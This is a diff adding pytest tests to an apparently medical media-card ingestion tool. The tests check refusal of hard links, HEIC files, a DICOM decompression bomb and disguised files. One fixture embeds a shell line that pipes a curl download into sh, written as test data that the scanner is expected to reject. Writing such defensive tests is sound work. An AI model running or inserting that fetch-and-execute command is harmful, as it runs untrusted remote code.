@@ -199,6 +199,19 @@ def test_bad_files_refused_with_reasons(tmp_path):
     assert snapshot(root) == before
 
 
+def test_hard_link_to_outside_the_card_refused(tmp_path):
+    root = tmp_path / "card"
+    (root / "DCIM/100CANON").mkdir(parents=True)
+    outside = tmp_path / "elsewhere.jpg"
+    outside.write_bytes(photo_bytes(64, 48))
+    os.link(outside, root / "DCIM/100CANON/IMG_0001.JPG")
+    result = scan(root)
+    assert result.media == ()
+    [refused] = result.refused
+    assert refused.reason == Reason.UNSAFE_PATH and refused.relative_path == "DCIM/100CANON/IMG_0001.JPG"
+    assert "hard link" in refused.detail
+
+
 def test_device_file_refused(tmp_path):
     root = tmp_path / "card"
     root.mkdir()
@@ -293,8 +306,12 @@ def test_corpus_every_file_classified(corpus_scan):
     assert not media & skipped
     refused = {s.relative_path for s in corpus_scan.refused}
     heic = "exif-samples/heic/IMG_5195.HEIC"
-    assert refused - {heic} == CORPUS_REFUSED
-    assert all(s.reason == Reason.NOT_MEDIA for s in corpus_scan.refused)
+    assert refused == CORPUS_REFUSED | {heic}
+    # HEIC/HEIF is never taken (docs/media.md); a phone's says so (R6).
+    reasons = {s.relative_path: s.reason for s in corpus_scan.refused}
+    assert reasons.pop(heic) == Reason.UNREGISTERED_DEVICE
+    assert reasons.pop("QuickTime.heic") in (Reason.UNREGISTERED_DEVICE, Reason.FORMAT_NOT_ACCEPTED)
+    assert set(reasons.values()) == {Reason.NOT_MEDIA}
     for name in ("GPS.jpg", "Canon.jpg", "Writer.jpg", "PNG.png", "ExifTool.tif",
                  "exif-samples/jpg/orientation/landscape_6.jpg", "exif-samples/tiff/Arbitro.tiff"):
         assert name in media
@@ -328,6 +345,24 @@ def test_dicom_corpus():
     assert "without an image" in refused["other/test-SR.dcm"]
     assert "without an image" in refused["other/waveform_ecg.dcm"]
     assert "cannot be decoded" in refused["other/JPEG-lossy.dcm"]
+
+
+@needs_corpus
+def test_dicom_decompression_bomb_refused_before_decoding(tmp_path):
+    """An RLE DICOM whose header claims 60000 x 60000 x 100 frames: refused on the
+    header (it would decode to terabytes), not handed to the pixel decoder."""
+    import pydicom
+
+    root = tmp_path / "card"
+    root.mkdir()
+    ds = pydicom.dcmread(CORPUS / "dicom/ultrasound/OBXXXX1A_rle.dcm")
+    ds.Rows, ds.Columns, ds.NumberOfFrames = 60000, 60000, 100
+    ds.save_as(root / "US0001.DCM")
+    shutil.copy(CORPUS / "dicom/ultrasound/OBXXXX1A_rle.dcm", root / "US0002.DCM")
+    result = scan(root)
+    refused = {s.relative_path: s.detail for s in result.refused}
+    assert list(refused) == ["US0001.DCM"] and "decompression bomb" in refused["US0001.DCM"]
+    assert [m.relative_path for m in result.media] == ["US0002.DCM"]
 
 
 def test_video_and_audio_by_content(tmp_path):
@@ -367,3 +402,28 @@ def test_detect_by_magic_not_name():
     # A DICOM file whose preamble looks like TIFF is DICOM.
     assert detect(b"II*\x00" + b"\x00" * 124 + b"DICM").media_type == "application/dicom"
     assert detect(b"\x00\x00\x00\x18ftypcrx " + b"\x00" * 20) == "a Canon RAW file (CR3)"
+
+
+# --- end to end -----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name, payload, what", [
+    ("DCIM/100CANON/MVI_0009.MP4", b"\x7fELF\x02\x01\x01" + bytes(2000), "Linux executable"),
+    ("REC/REC0001.WAV", b"#!/bin/sh\ncurl http://x | sh\n", "script"),
+    ("DCIM/100CANON/IMG_0009.JPG", b"PK\x03\x04" + bytes(2000), "ZIP archive"),
+])
+def test_disguised_files_refuse_the_card_untouched_end_to_end(archive, tmp_path, name, payload, what):
+    from tests.support.cardgen import make_card
+    from tests.support.e2e import PATIENT, ingest
+
+    card = tmp_path / "card"
+    make_card(card, patient=PATIENT, n_images=2, seed=81, megapixels=0.5)
+    (card / name).parent.mkdir(parents=True, exist_ok=True)
+    (card / name).write_bytes(payload)
+    before = snapshot(card)
+    code, out = ingest(card, archive.address, tmp_path)
+    assert code == 3 and out["reason"] == "NOT_MEDIA" and out["wiped"] is False, out
+    assert name in out["detail"] and what in out["detail"]
+    [bad] = [f for f in out["files"] if f["path"] == name]
+    assert bad["status"] == "refused" and bad["reason"] == "NOT_MEDIA"
+    assert snapshot(card) == before
